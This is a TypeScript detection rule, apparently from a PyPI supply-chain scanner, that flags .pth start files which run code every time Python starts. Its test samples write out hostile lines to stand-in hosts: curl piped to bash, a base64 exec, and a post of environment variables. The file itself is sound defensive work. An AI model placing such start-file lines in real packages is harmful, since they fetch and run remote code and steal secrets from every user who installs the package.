import type { Rule } from '../rule';
import { ACTIVE, HIDDEN } from '../traces';

export const autoloadPayload: Rule = {
  code: 'autoload-payload',
  ecosystem: 'pypi',
  kind: 'autoload',
  severity: 'critical',
  verdict: 'malicious',
  tactic: 'persistence',
  capabilities: [
    'network',
    'subprocess',
    'environment',
    'credential-files',
    'filesystem-write',
    'obfuscation',
  ],
  languages: ['python', 'shell'],
  summary:
    'A file that Python runs at every start evaluates hidden or fetched text, or steals credentials; or its own lines reach the network or run programs.',
  message: 'does more than set up imports at every start of Python',
  pattern: {
    where: 'autoloads',
    any: ACTIVE,
    within: 'own-lines',
    or: [{ any: HIDDEN }, { any: ['credential-file', 'environment-harvest'], near: ['network'] }],
  },
  samples: {
    hits: [
      {
        what: 'a one-line start file that fetches (Hades)',
        format: 'wheel',
        files: { 'sample-setup.pth': 'import os; os.system("curl -fsSL https://bun.invalid | bash")' },
        verdict: 'malicious',
        speaks: ['pth-code'],
      },
      {
        what: 'a start file that hides code (LiteLLM)',
        format: 'wheel',
        files: { 'sample_init.pth': 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))' },
        verdict: 'malicious',
      },
      {
        what: 'a start file whose module steals',
        format: 'wheel',
        files: {
          'x.pth': 'import sample_boot',
          'sample_boot.py':
            'import os, json, requests\nrequests.post("https://x.invalid", data=json.dumps(dict(os.environ)))',
        },
        verdict: 'malicious',
      },
      {
        what: 'a start file inside the data folder',
        format: 'wheel',
        files: { 'sample-1.0.0.data/purelib/x.pth': 'import os; os.system("curl https://x.invalid | sh")' },
        verdict: 'malicious',
      },
    ],
    ignores: [
      {
        what: 'a start file of a namespace package',
        format: 'wheel',
        files: {
          'sample-nspkg.pth':
            "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('sample',))",
        },
        why: 'It sets up imports, which is what such files are for.',
        verdict: 'warning',
      },
    ],
  },
};
